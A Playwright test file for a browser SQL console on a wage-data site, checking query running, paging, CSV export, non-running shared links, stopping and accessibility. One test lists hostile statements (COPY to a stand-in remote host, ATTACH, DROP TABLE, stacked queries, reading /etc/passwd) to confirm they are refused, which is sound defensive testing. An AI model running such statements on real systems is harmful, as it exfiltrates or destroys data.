/**
 * Guarantee: on the built site a statement is opened, run, sorted, drawn, saved, shared and stopped; one that an address brings
 * is not run; none reaches beyond its engine; and a reader's own rows are read by statements without a request and without a
 * word of them in the address. Without it a link could run what somebody else wrote, or a statement could take the page along.
 */
import { expect, type Page } from '@playwright/test';
import Papa from 'papaparse';
import { expectAccessibleInBothThemes, expectToFit } from './accessible.ts';
import { csvFile, giveFile, openYours, press } from './yours.ts';
import { comeToLife, open, saving, settled, test } from './site.ts';

const editor = (page: Page) => page.getByRole('textbox', { name: 'SQL statement' });
const runs = (page: Page) => page.getByRole('button', { name: 'Run', exact: true });
const stops = (page: Page) => page.getByRole('button', { name: 'Stop', exact: true });
const status = (page: Page) => page.locator('section[aria-labelledby="console"] [role="status"]').first();
const result = (page: Page) => page.getByRole('region', { name: 'Result of your statement' });

const RUNAWAY =
	'SELECT count(*) FROM range(1000000) a, range(1000000) b, range(10000) c WHERE a.range + b.range = -1';

async function openConsole(page: Page, address = '/sql/'): Promise<void> {
	await page.goto(address);
	await ready(page);
}

/** The plain box has become the editor: what is typed from here on is typed into it. */
async function ready(page: Page): Promise<void> {
	await expect(page.locator('.cm-content')).toBeVisible();
	await comeToLife(page);
}

/** Types a statement in place of the one that stands there, by keyboard. */
async function write(page: Page, statement: string): Promise<void> {
	await editor(page).focus();
	await page.keyboard.press('ControlOrMeta+a');
	await page.keyboard.insertText(statement);
	await expect(editor(page)).toHaveText(statement);
}

async function run(page: Page, statement: string): Promise<void> {
	await write(page, statement);
	await page.keyboard.press('ControlOrMeta+Enter');
	await expect(status(page)).toHaveText(/ in [\d.]+ s\./, { timeout: 60_000 });
}

/** Cells of the rows that are shown. */
function shownRows(page: Page): Promise<string[][]> {
	return result(page)
		.locator('tbody tr')
		.evaluateAll((rows) => rows.map((row) => [...row.children].map((cell) => cell.textContent ?? '')));
}

async function savedCsv(page: Page): Promise<string[][]> {
	const { text } = await saving(page, () => page.getByRole('button', { name: 'Download CSV' }).click());
	return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
}

/** Every request that the page makes from here on. */
function requestsOf(page: Page): string[] {
	const made: string[] = [];
	page.on('request', (request) => {
		if (!/^(?:blob|data):/.test(request.url())) made.push(request.url());
	});
	return made;
}

test('an example is opened, run, sorted, drawn and saved as it is shown', async ({ page }) => {
	await openConsole(page);
	await page.locator('#example-local-dollars summary').click();
	await page.getByRole('link', { name: 'Open in the editor: States by local dollars' }).click();
	await expect(editor(page)).toContainText('price_parities');
	await expect(editor(page)).toBeFocused();
	await expect(result(page)).toHaveCount(0);
	await runs(page).click();
	await expect(status(page)).toHaveText(/^5\d rows in/, { timeout: 60_000 });
	const fromHigh = await shownRows(page);
	expect(fromHigh.length).toBeGreaterThan(49);
	await expect(page.locator('figure svg [data-key], figure svg .mark').first()).toBeVisible();

	await result(page).getByRole('button', { name: 'state' }).click();
	await expect(result(page).getByRole('columnheader').first()).toHaveAttribute('aria-sort', 'ascending');
	const byName = await shownRows(page);
	expect(byName.map(([state]) => state)).toEqual(
		fromHigh.map(([state = '']) => state).sort((one, other) => one.localeCompare(other, 'en')),
	);
	const [header, ...rows] = await savedCsv(page);
	expect(header).toEqual(['state', 'local_median']);
	expect(rows).toEqual(byName.map((row) => row.map((cell) => (cell === 'NULL' ? '' : cell))));
});

test('rows come a hundred at a time, and the file has all of them', async ({ page }) => {
	await openConsole(page);
	await run(page, 'SELECT area_code, title FROM areas ORDER BY area_code');
	const pages = [await shownRows(page)];
	const next = page.getByRole('button', { name: 'Next 100' });
	while (await next.isEnabled()) {
		await next.click();
		await expect(page.getByText(`Rows ${pages.length}01–`)).toBeVisible();
		pages.push(await shownRows(page));
	}
	expect(pages.length).toBeGreaterThan(3);
	expect((await savedCsv(page)).slice(1)).toEqual(pages.flat());
});

test('a table unfolds to its columns, each with its type and what it holds', async ({ page }) => {
	await page.goto('/sql/');
	const areas = page.locator('section[aria-labelledby="tables"] details', {
		has: page.getByText('areas', { exact: true }),
	});
	// At once, before its code may be there.
	await areas.locator('summary').click();
	await expect(areas.getByRole('term').filter({ hasText: /^area_code VARCHAR/ })).toBeVisible();
	await expect(areas.getByRole('definition').first()).not.toBeEmpty();
});

test('a link brings the statement to another browser, which does not run it', async ({
	page,
	browser,
	baseURL,
	context,
}) => {
	await context.grantPermissions(['clipboard-read', 'clipboard-write']);
	await openConsole(page);
	const statement = "SELECT 'é & #' AS sign, count(*) AS areas FROM areas";
	await run(page, statement);
	await expect.poll(() => new URL(page.url()).hash).toBe(`#q=${encodeURIComponent(statement)}`);
	await page.getByRole('button', { name: 'Copy link' }).click();
	await expect(status(page)).toContainText('The link is copied.');
	const link = await page.evaluate(() => navigator.clipboard.readText());
	const { pathname, hash } = new URL(link);
	expect(pathname).toBe('/sql/');

	const elsewhere = await browser.newContext({ baseURL: baseURL ?? '', serviceWorkers: 'block' });
	const other = await elsewhere.newPage();
	const made = requestsOf(other);
	await openConsole(other, `/sql/${hash}`);
	await expect(editor(other)).toHaveText(statement);
	await expect(other.getByText('This statement came with the address.')).toBeVisible();
	await other.waitForTimeout(1500);
	await expect(result(other)).toHaveCount(0);
	await expect(status(other)).toHaveText('');
	expect(other.workers()).toEqual([]);
	expect(made.filter((url) => /\.wasm|\.csv|\.parquet/.test(url))).toEqual([]);
	expect(made.filter((url) => url.includes('sign'))).toEqual([]);
	await elsewhere.close();
});

test('a runaway statement holds up neither another tab nor the next page of this one, and is stopped', async ({
	page,
	context,
}) => {
	test.slow();
	await openConsole(page);
	await run(page, 'SELECT count(*) AS n FROM areas');
	await write(page, RUNAWAY);
	await runs(page).click();
	await expect(status(page)).toHaveText('Running.');

	const other = await context.newPage();
	await open(other, '/?area=48');
	await expect(other.locator('figure[data-view="pay-by-role"] svg').first()).toBeVisible();
	await other.close();

	await stops(page).click();
	await expect(status(page)).toHaveText(/^Stopped\./, { timeout: 10_000 });
	const made = requestsOf(page);
	await run(page, 'SELECT count(*) AS n FROM areas');
	expect(made.filter((url) => url.includes('areas'))).toEqual([]);

	await write(page, RUNAWAY);
	await runs(page).click();
	await expect(status(page)).toHaveText('Running.');
	await page.getByRole('link', { name: 'Paychart', exact: false }).first().click();
	await settled(page);
	await page.goto('/?area=48');
	await settled(page);
});

const NOT_ONE = 'Only one statement that reads can be run.';
const NO_FILES = 'Files and addresses cannot be read here';

test('what a statement must not do is refused in a sentence, and nothing is requested', async ({ page }) => {
	await openConsole(page);
	await run(page, 'SELECT count(*) AS n FROM areas');
	const origin = new URL(page.url()).origin;
	const made = requestsOf(page);
	const hostile: readonly (readonly [string, string])[] = [
		["COPY areas TO 'https://elsewhere.example/x.csv'", NOT_ONE],
		["COPY (SELECT 1) TO 'x.csv'", NOT_ONE],
		['INSTALL httpfs', NOT_ONE],
		['LOAD httpfs', NOT_ONE],
		['SET enable_external_access = true', NOT_ONE],
		['PRAGMA enable_profiling', NOT_ONE],
		["ATTACH 'https://elsewhere.example/x.db' AS x", NOT_ONE],
		['DROP TABLE areas', NOT_ONE],
		['SELECT 1; DROP TABLE areas', NOT_ONE],
		["SELECT 1; COPY areas TO 'x.csv'; --", NOT_ONE],
		["SELECT * FROM 'https://elsewhere.example/x.parquet'", NO_FILES],
		["SELECT * FROM read_csv('https://elsewhere.example/x.csv')", NO_FILES],
		[`SELECT * FROM read_csv('${origin}/catalogue.json')`, NO_FILES],
		["SELECT * FROM read_text('/etc/passwd')", NO_FILES],
		["SELECT * FROM glob('*')", NO_FILES],
	];
	const alert = page.locator('section[aria-labelledby="console"] [role="alert"]');
	for (const [statement, sentence] of hostile) {
		await write(page, statement);
		await runs(page).click();
		await expect(alert, statement).toContainText(sentence);
		await expect(runs(page)).toBeEnabled();
	}
	// A browser may ask for the icon again whenever the address has changed.
	expect(made.filter((url) => !url.endsWith('/favicon.svg'))).toEqual([]);
	await run(page, 'SELECT count(*) > 100 AS still FROM areas');
	expect(await shownRows(page)).toEqual([['true']]);
});

test('own figures and a payroll are tables of statements, by keyboard at 360 px, without a request or a word in the address', async ({
	page,
}) => {
	test.slow();
	await page.setViewportSize({ width: 360, height: 780 });
	await openYours(page);
	const payroll =
		'Job title,City,Annual salary,Employee\nMedical Records Specialists,"Austin, TX",52000,Ann Onym\n';
	await giveFile(page, 'payroll', csvFile('people.csv', payroll));
	const figures = 'Role,Place,Median\nMedical Records Specialists,"Austin, TX",61234\n';
	await giveFile(page, 'figures', csvFile('survey.csv', figures));
	await followMenu(page);
	await ready(page);
	await run(page, 'SELECT 1 AS n');

	const made = requestsOf(page);
	const before = page.url();
	const statement =
		"SELECT p.name, p.annual_pay, f.value, w.a_median FROM your_payroll AS p JOIN your_figures AS f USING (occ_code, area_code) JOIN wages AS w USING (occ_code, area_code) WHERE w.year = 2025 AND p.name = 'Ann Onym'";
	await run(page, statement);
	const [row = []] = await shownRows(page);
	expect(row.slice(0, 3)).toEqual(['Ann Onym', '52000', '61234']);
	expect(Number(row[3])).toBeGreaterThan(20_000);
	await expect(page.getByText('It reads tables of your own.')).toBeVisible();
	await press(page.getByRole('button', { name: 'Copy for a spreadsheet' }));
	const { name } = await saving(page, () => press(page.getByRole('button', { name: 'Download CSV' })));
	expect(name).toBe('sql-result-with-yours.csv');
	expect(page.url()).toBe(before);
	expect(await page.evaluate(() => JSON.stringify(history.state))).not.toContain('Onym');
	expect(made).toEqual([]);
	const beyond = await page.evaluate(() => {
		const { scrollWidth, clientWidth } = document.documentElement;
		return scrollWidth - clientWidth;
	});
	expect(beyond).toBeLessThanOrEqual(0);
	// The editor lets the keyboard go on as it came.
	await editor(page).focus();
	await page.keyboard.press('Escape');
	await page.keyboard.press('Tab');
	await expect(runs(page)).toBeFocused();
});

/** Goes on to the page of statements by the menu of a narrow window, as one document. */
async function followMenu(page: Page): Promise<void> {
	await page.evaluate(() => Object.assign(window, { isSame: true }));
	const menu = page.getByRole('banner');
	for (const target of [
		menu.locator('summary', { hasText: 'Menu' }),
		menu.getByRole('link', { name: 'SQL', exact: true }),
	]) {
		await expect(target).toBeVisible();
		await target.focus();
		await page.keyboard.press('Enter');
	}
	await expect(page.locator('main h1')).toHaveText('Ask the tables in SQL');
	expect(await page.evaluate(() => 'isSame' in window)).toBe(true);
}

test.describe('without scripts', () => {
	test.use({ javaScriptEnabled: false });

	test('examples and tables can be read', async ({ page }) => {
		await page.goto('/sql/');
		await page.locator('#example-top-coded summary').click();
		await expect(page.locator('#example-top-coded pre')).toContainText("a_p90_flag = 'top_coded'");
		const wages = page.locator('section[aria-labelledby="tables"] details', {
			has: page.getByText('wages', { exact: true }),
		});
		await wages.locator('summary').click();
		await expect(wages.getByText(/\bocc_code, /)).toBeVisible();
		await expect(page.locator('.workspace noscript p')).toBeVisible();
	});
});

test('axe finds nothing in either theme, and nothing is cut', async ({ page }) => {
	await openConsole(page);
	await page.getByText('SQL statement', { exact: true }).click();
	await expect(editor(page)).toBeFocused();
	await run(
		page,
		"SELECT title, a_median FROM wages JOIN areas USING (area_code) WHERE occ_code = '29-2072' AND year = 2025 LIMIT 120",
	);
	await page.locator('main details').evaluateAll((parts) => {
		for (const part of parts) (part as HTMLDetailsElement).open = true;
	});
	await expect(page.getByRole('definition').first()).toBeVisible();
	await expectToFit(page);
	await expectAccessibleInBothThemes(page);
});
